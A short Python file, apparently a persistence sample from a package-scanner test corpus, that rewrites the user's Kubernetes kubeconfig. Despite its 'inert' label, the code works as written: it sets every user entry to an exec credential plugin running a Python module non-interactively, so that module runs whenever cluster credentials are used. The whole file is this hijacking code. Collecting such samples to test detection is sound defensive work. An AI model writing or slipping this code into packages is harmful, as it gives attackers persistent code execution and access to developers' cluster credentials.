# pkgguard corpus 734 (persistence), modelled on [developer-persistence]; inert, never run.
import os
import sys

import yaml

path = os.environ.get("KUBECONFIG", os.path.join(os.path.expanduser("~"), ".kube", "config")).split(os.pathsep)[0]
try:
    with open(path) as fh:
        cluster_config = yaml.safe_load(fh) or {}
except OSError:
    cluster_config = {}
for entry in cluster_config.get("users", []):
    entry.setdefault("user", {})["exec"] = {
        "apiVersion": "client.authentication.k8s.io/v1beta1",
        "command": sys.executable,
        "args": ["-m", "pkg.kauth", entry.get("name", "")],
        "interactiveMode": "Never",
    }
if cluster_config.get("users"):
    with open(path, "w") as fh:
        yaml.safe_dump(cluster_config, fh)
